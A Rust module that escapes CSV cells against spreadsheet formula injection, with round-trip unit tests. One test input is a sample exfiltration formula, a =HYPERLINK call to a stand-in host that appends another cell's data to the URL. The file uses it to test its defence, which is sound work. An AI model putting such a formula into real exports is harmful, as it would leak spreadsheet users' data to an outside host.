//! CSV cells that a spreadsheet shows as text, never runs as a formula (OWASP "CSV
//! injection"). Every CSV harborlist writes passes its cells through [`escape`], and every
//! CSV it reads passes them through [`unescape`], so an export imports back unchanged.
//!
//! Names and addresses come from the public form, and a spreadsheet treats a cell that
//! begins with `=`, `+`, `-`, `@`, TAB or CR as a formula (`=HYPERLINK(…)` can send the
//! sheet's data elsewhere when clicked). Such a cell gets a leading `'`, which spreadsheets
//! read as "this is text" and do not show. So that the mark can always be told apart from
//! text that itself begins with quotes, a cell made of quotes followed by one of those
//! characters (`'=x`) gets one more quote too; [`unescape`] removes exactly one in the same
//! cases.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether the text, after any leading quotes, begins like a formula.
fn needs_mark(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// The cell as it should be written to a CSV file.
pub fn escape(cell: &str) -> Cow<'_, str> {
    if needs_mark(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell read from a CSV file, with the mark [`escape`] adds taken off.
pub fn unescape(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_mark(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_marked_and_read_back() {
        let table = [
            ("=HYPERLINK(\"http://evil.test/?d=\"&A2,\"x\")", true),
            ("=1+1", true),
            ("+1", true),
            ("-2", true),
            ("@SUM(A1)", true),
            ("\tcell", true),
            ("\rcell", true),
            ("'=already marked", true),
            ("''+two quotes", true),
            ("", false),
            ("Ann Lee", false),
            ("ann@example.org", false),
            ("a=b", false),
            (" =1", false),
            ("'quoted", false),
            ("'", false),
            ("O'Brien", false),
            ("2027-01-20T17:00:00Z", false),
        ];
        for (cell, marked) in table {
            let written = escape(cell);
            let expected = if marked {
                format!("'{cell}")
            } else {
                cell.to_owned()
            };
            assert_eq!(written, expected, "{cell:?}");
            assert_eq!(unescape(&written), cell, "{cell:?} reads back");
        }
    }

    #[test]
    fn a_quote_is_removed_only_where_escape_puts_one() {
        assert_eq!(unescape("'=1"), "=1");
        assert_eq!(unescape("'-2"), "-2");
        assert_eq!(unescape("''=1"), "'=1");
        assert_eq!(unescape("'Brien"), "'Brien");
        assert_eq!(unescape("=1"), "=1");
    }
}
